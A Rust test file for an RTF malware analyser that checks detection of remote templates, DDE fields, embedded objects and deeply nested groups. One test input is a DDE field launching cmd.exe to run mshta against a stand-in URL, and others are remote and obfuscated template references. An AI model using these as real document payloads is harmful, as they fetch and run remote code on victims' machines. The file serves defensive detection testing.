use super::rtf_objects;
use crate::examine;
use strongroom_model::{Limits, Report, Verdict};

fn read(text: &str) -> Report {
    examine("a.rtf", text.as_bytes(), &Limits::default())
}

fn codes(report: &Report) -> Vec<String> {
    report
        .findings
        .iter()
        .map(|finding| finding.code.to_string())
        .collect()
}

#[test]
fn a_plain_text_is_clean_and_names_what_it_names() {
    let report = read("{\\rtf1\\ansi hello {\\b https://a.exam}ple/x}");
    assert_eq!(report.verdict(), Verdict::Clean);
    assert_eq!(report.observables[0].observable.value(), "https://a.example/x");
}

#[test]
fn every_template_counts() {
    let report = read("{\\rt{\\*\\template C:\\\\a.dot}{\\*\\template http://a.example/x.dot}}");
    assert_eq!(codes(&report), ["files.remote-part"]);
    let spelled = read("{\\rt{\\*\\template \\u-65432?\\u116 ?\\'74p://b.example/}}");
    assert_eq!(spelled.observables.len(), 1);
}

#[test]
fn a_field_that_starts_a_program_is_unfolded() {
    let report = read(
        "{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k mshta http://a.example/x.hta\"}}{\\fldrslt x}}}",
    );
    assert!(
        codes(&report).contains(&"files.dde".to_owned()),
        "{:?}",
        codes(&report)
    );
    assert!(
        codes(&report).contains(&"script.proxy".to_owned()),
        "{:?}",
        codes(&report)
    );
}

#[test]
fn objects_stand_in_any_group() {
    let text = b"{\\rt{\\header{\\object{\\objdata 41 42}}}{\\object\\objdata 4{\\x1}3\\objdata 44}";
    let objects: Vec<Vec<u8>> = rtf_objects(text)
        .into_iter()
        .map(|(_, ways)| ways[0].clone())
        .collect();
    assert_eq!(objects, [b"AB".to_vec(), b"C".to_vec(), b"D".to_vec()]);
}

#[test]
fn deep_groups_end() {
    let text = format!("{{\\rtf1{}", "{".repeat(200_000));
    assert_eq!(read(&text).verdict(), Verdict::NotCleared);
}
